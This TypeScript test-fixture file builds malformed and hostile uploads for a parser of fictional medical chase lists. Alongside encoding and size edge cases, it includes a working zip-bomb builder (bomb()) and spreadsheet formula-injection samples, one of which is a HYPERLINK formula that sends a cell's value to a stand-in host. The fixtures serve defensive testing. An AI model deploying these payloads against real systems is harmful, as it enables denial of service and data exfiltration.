/** Chase lists that break other programs, made in memory. Nobody in them exists. */
import { zipFile } from '../exchange/index.ts';
import { csvText, goodCells, HEADER } from '../support/chase-list.ts';

const header = HEADER.split(',');
export const accented = 'Núñez';
const withAccent = [header, goodCells(7, { 'Last Name': accented }), goodCells(8)];

const utf16 = (text: string, big: boolean): Buffer => {
  const bytes = Buffer.from(text, 'utf16le');
  return big ? bytes.swap16() : bytes;
};

export const encoded: readonly { name: string; says: RegExp; bytes: Buffer }[] = [
  { name: 'le-mark.csv', says: /UTF-16, tabs/, bytes: utf16(`\uFEFF${csvText(withAccent, '\t')}`, false) },
  { name: 'be-mark.csv', says: /UTF-16, big endian, commas/, bytes: utf16(`\uFEFF${csvText(withAccent)}`, true) },
  { name: 'le-bare.csv', says: /UTF-16, commas/, bytes: utf16(csvText(withAccent), false) },
  { name: 'be-bare.csv', says: /UTF-16, big endian, semicolons/, bytes: utf16(csvText(withAccent, ';'), true) },
  { name: 'windows.csv', says: /Windows-1252, semicolons/, bytes: Buffer.from(csvText(withAccent, ';'), 'latin1') },
  { name: 'mark.csv', says: /UTF-8, commas/, bytes: Buffer.from(`\uFEFF${csvText(withAccent)}`, 'utf8') },
];

/** Ten thousand of these bytes are in a few kilobytes on the disk: many parts of an archive share one packed body. */
function bomb(): Buffer {
  const one = zipFile([{ name: 'xl/worksheets/sheet1.xml', bytes: Buffer.alloc(15 * 1024 * 1024, 'A') }]);
  const central = one.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1'));
  const end = one.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  const entry = one.subarray(central, end);
  const parts = 400;
  const tail = Buffer.from(one.subarray(end));
  tail.writeUInt16LE(parts, 8);
  tail.writeUInt16LE(parts, 10);
  tail.writeUInt32LE(entry.length * parts, 12);
  return Buffer.concat([one.subarray(0, central), ...Array.from({ length: parts }, () => entry), tail]);
}

interface Sheet {
  name: string;
  rows: string;
}

/** A workbook as a spreadsheet writes it: style 1 is a date, style 2 shows eight digits. */
function workbook(sheets: readonly Sheet[]): Buffer {
  const parts: Record<string, string> = {
    '[Content_Types].xml': '<Types/>',
    '_rels/.rels':
      '<Relationships><Relationship Id="r1" Type="http://x/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    'xl/workbook.xml': `<workbook xmlns:r="r"><sheets>${sheets.map(({ name }, n) => `<sheet name="${name}" r:id="s${n}"/>`).join('')}</sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships>${sheets.map((_, n) => `<Relationship Id="s${n}" Type="t/worksheet" Target="worksheets/s${n}.xml"/>`).join('')}<Relationship Id="y" Type="t/styles" Target="styles.xml"/></Relationships>`,
    'xl/styles.xml':
      '<styleSheet><numFmts><numFmt numFmtId="170" formatCode="00000000"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="170"/></cellXfs></styleSheet>',
    ...Object.fromEntries(
      sheets.map(({ rows }, n) => [`xl/worksheets/s${n}.xml`, `<worksheet><sheetData>${rows}</sheetData></worksheet>`]),
    ),
  };
  return zipFile(Object.entries(parts).map(([name, text]) => ({ name, bytes: Buffer.from(text) })));
}

const inline = (text: string): string => `<c t="inlineStr"><is><t>${text}</t></is></c>`;
const number = (value: number, style: number): string => `<c s="${style}"><v>${value}</v></c>`;
const sheetHeader = ['Member ID', 'Last Name', 'First Name', 'DOB', 'Facility Name', 'DOS From', 'Chase ID'];

/** The list is on the second sheet; ids are a number shown with zeros and a text with zeros, dates are day numbers. */
export const twoSheets = {
  name: 'two sheets.xlsx',
  sheet: 'Chases',
  bytes: workbook([
    { name: 'Read me', rows: `<row>${inline('Nothing here')}</row>` },
    {
      name: 'Chases',
      rows: `<row>${sheetHeader.map(inline).join('')}</row><row>${number(4711, 2)}${inline('Okafor')}${inline('Ada')}${number(18_696, 1)}${inline('Plano Orthopedic Clinic')}${number(45_658, 1)}${inline('000123')}</row>`,
    },
  ]),
  holds: ['00004711', '1951-03-09', '2025-01-01', '000123'],
};

/** What can only be refused: what the window says about each. */
export const refused: readonly { name: string; says: RegExp; bytes: () => Buffer }[] = [
  { name: 'empty.csv', says: /The file is empty/, bytes: () => Buffer.alloc(0) },
  { name: 'blank.csv', says: /holds no rows/, bytes: () => Buffer.from('\r\n \r\n\r\n') },
  {
    name: 'letter.csv',
    says: /This is a PDF/,
    bytes: () => Buffer.from('%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<<>>\nendobj\n', 'latin1'),
  },
  {
    name: 'noise.csv',
    says: /not a text file/,
    bytes: () => Buffer.from(Array.from({ length: 9000 }, (_, i) => 1 + ((i * 7919 + (i >> 3) * 104_729) % 255))),
  },
  { name: 'program.csv', says: /not a text file/, bytes: () => Buffer.from('7f454c4602010100000000000000', 'hex') },
  { name: 'bomb.xlsx', says: /unpack to more than a gigabyte/, bytes: bomb },
  {
    name: 'cut.xlsx',
    says: /cut off|damaged/,
    bytes: () => twoSheets.bytes.subarray(0, Math.floor(twoSheets.bytes.length * 0.6)),
  },
  {
    name: 'open quote.csv',
    says: /never closed/,
    bytes: () => Buffer.from(`${HEADER}\r\n"${goodCells(3).join(',')}\r\n${goodCells(4).join(',')}\r\n`),
  },
];

/** 500 columns, and what is needed stands at the far end. */
export function manyColumns(): Buffer {
  const extra = Array.from({ length: 500 - header.length }, (_, n) => `extra ${n + 1}`);
  return Buffer.from(
    csvText([
      [...extra, ...header],
      [...extra.map(() => 'x'), ...goodCells(11)],
      [...extra.map(() => 'y'), ...goodCells(12)],
    ]),
  );
}

/** One cell of 2 MB between good ones. */
export const longCell = (): Buffer =>
  Buffer.from(csvText([header, goodCells(13), goodCells(14, { HCC: '9'.repeat(2 * 1024 * 1024) }), goodCells(15)]));

export const formulas = ['=HYPERLINK("http://x.example/?a="&A1,"open")', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1'];
/** Formulas where the client's own key stands and in names. */
export const formulaList = (): Buffer =>
  Buffer.from(
    csvText([
      header,
      ...formulas.map((formula, n) => goodCells(20 + n, { 'Chase ID': formula, 'Last Name': formula })),
    ]),
  );

/** `Last Name` twice; the first of them counts. */
export const doubledHeader = (): Buffer =>
  Buffer.from(
    csvText([
      [...header, 'Last Name'],
      [...goodCells(31, { 'Last Name': 'First-of-two' }), 'Second-of-two'],
    ]),
  );

export const lineBreaks = (): Buffer =>
  Buffer.from(
    csvText([header, goodCells(41, { 'Facility Name': 'Plano, "North"\r\nSuite 4' }), goodCells(42)]).concat(
      '\r\n\r\n',
    ),
  );

export const headerOnly = (): Buffer => Buffer.from(`${HEADER}\r\n`);
